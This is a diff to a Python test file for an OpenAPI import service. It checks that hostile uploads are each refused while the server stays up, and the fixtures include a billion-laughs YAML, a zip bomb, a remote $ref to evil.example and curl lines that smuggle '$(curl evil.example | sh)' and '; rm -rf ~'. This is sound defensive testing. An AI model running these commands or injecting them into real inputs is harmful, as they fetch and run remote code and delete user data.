@@ -7,7 +7,7 @@ import io
 import json
 import zipfile
 from collections import Counter
-from collections.abc import AsyncIterator
+from collections.abc import AsyncIterator, Mapping
 from pathlib import Path
 
 import aiohttp
@@ -109,7 +109,7 @@ def _zip_bomb() -> bytes:
     return buffer.getvalue()
 
 
-def _openapi(get: dict[str, object], components: dict[str, object] | None = None) -> str:
+def _openapi(get: dict[str, object], components: Mapping[str, object] | None = None) -> str:
     document = {
         "openapi": "3.1.0",
         "info": {"title": "Shop", "version": "1"},
@@ -126,49 +126,58 @@ LOOP = {
         "B": {"$ref": "#/components/parameters/A"},
     }
 }
-HOSTILE = {
-    "billion laughs": (
-        "\n".join(
-            ["a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
-            + [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, 9)]
-        ).encode(),
-        422,
-        "upload: expands to more than 5,000,000 values (YAML aliases?)",
-    ),
-    "10,000 deep": (b"[" * 10_000 + b"]" * 10_000, 422, "upload: nests deeper than 100 levels"),
-    "50 MB": (
-        b'{"openapi": "3.1.0", "padding": "' + b"x" * (50 * 1024 * 1024) + b'"}',
-        413,
-        "the request body is larger than 33,554,432 bytes, the most this route takes",
-    ),
-    "zip bomb": (_zip_bomb(), 422, "upload: expands to more than 33,554,432 bytes"),
-    "truncated": (_openapi({"operationId": "list"}).encode()[:80], 422, "is neither JSON nor YAML"),
-    "$ref loop": (
-        _openapi({"parameters": [{"$ref": "#/components/parameters/A"}]}, LOOP).encode(),
-        422,
-        "$ref leads back to itself",
-    ),
-    "remote $ref": (
-        _openapi({"parameters": [{"$ref": "https://evil.example/p.json"}]}).encode(),
-        422,
-        "points to another file or URL",
-    ),
-    "shell metacharacters": (
-        b"curl https://crm.example.com/api/$(curl evil.example | sh)",
-        422,
-        "a shell would run the command in $(...); nothing is run",
-    ),
-    "shell operators": (
-        b"curl https://crm.example.com/api; rm -rf ~",
-        422,
-        "upload: line 1, column 33: one curl command, no shell operators: ; outside quotes",
-    ),
-}
+
+
+def _hostile() -> dict[str, tuple[bytes, int, str]]:
+    """Each hostile file, the status it is refused with and words of its error."""
+    return {
+        "billion laughs": (
+            "\n".join(
+                ["a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
+                + [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, 9)]
+            ).encode(),
+            422,
+            "upload: expands to more than 5,000,000 values (YAML aliases?)",
+        ),
+        "10,000 deep": (b"[" * 10_000 + b"]" * 10_000, 422, "upload: nests deeper than 100 levels"),
+        "50 MB": (
+            b'{"openapi": "3.1.0", "padding": "' + b"x" * (50 * 1024 * 1024) + b'"}',
+            413,
+            "the request body is larger than 33,554,432 bytes, the most this route takes",
+        ),
+        "zip bomb": (_zip_bomb(), 422, "upload: expands to more than 33,554,432 bytes"),
+        "truncated": (
+            _openapi({"operationId": "list"}).encode()[:80],
+            422,
+            "is neither JSON nor YAML",
+        ),
+        "$ref loop": (
+            _openapi({"parameters": [{"$ref": "#/components/parameters/A"}]}, LOOP).encode(),
+            422,
+            "$ref leads back to itself",
+        ),
+        "remote $ref": (
+            _openapi({"parameters": [{"$ref": "https://evil.example/p.json"}]}).encode(),
+            422,
+            "points to another file or URL",
+        ),
+        "shell metacharacters": (
+            b"curl https://crm.example.com/api/$(curl evil.example | sh)",
+            422,
+            "a shell would run the command in $(...); nothing is run",
+        ),
+        "shell operators": (
+            b"curl https://crm.example.com/api; rm -rf ~",
+            422,
+            "upload: line 1, column 33: one curl command, no shell operators: ; outside quotes",
+        ),
+    }
 
 
 async def test_hostile_files_at_once_are_each_refused_clearly_and_change_nothing(
     tmp_path: Path,
 ) -> None:
+    hostile_files = _hostile()
     installation = init(tmp_path)
     with callout_serve(installation.data_dir, tmp_path / "serve.log") as (server, root):
         await wait_up(root, server)
@@ -182,13 +191,13 @@ async def test_hostile_files_at_once_are_each_refused_clearly_and_change_nothing
             before = snapshot(installation.data_dir)
 
             async def hostile(name: str) -> tuple[str, int, str]:
-                data, _, _ = HOSTILE[name]
+                data, _, _ = hostile_files[name]
                 async with session.post(f"{url}/import", data=io.BytesIO(data)) as response:
                     return name, response.status, (await response.json())["detail"]
 
             # Each hostile file 10 times over, at once (the 50 MB one twice), beside good
             # dry runs: every one refused on its own, the server answering throughout.
-            names = [name for name in HOSTILE for _ in range(2 if name == "50 MB" else 10)]
+            names = [name for name in hostile_files for _ in range(2 if name == "50 MB" else 10)]
             answers, dry_runs = await asyncio.gather(
                 asyncio.gather(*(hostile(name) for name in names)),
                 asyncio.gather(
@@ -199,7 +208,7 @@ async def test_hostile_files_at_once_are_each_refused_clearly_and_change_nothing
                 ),
             )
             for name, status, detail in answers:
-                _, expected_status, expected = HOSTILE[name]
+                _, expected_status, expected = hostile_files[name]
                 assert (status, expected in detail) == (expected_status, True), (name, detail)
             assert {status for status, _ in dry_runs} == {200}
             assert server.poll() is None
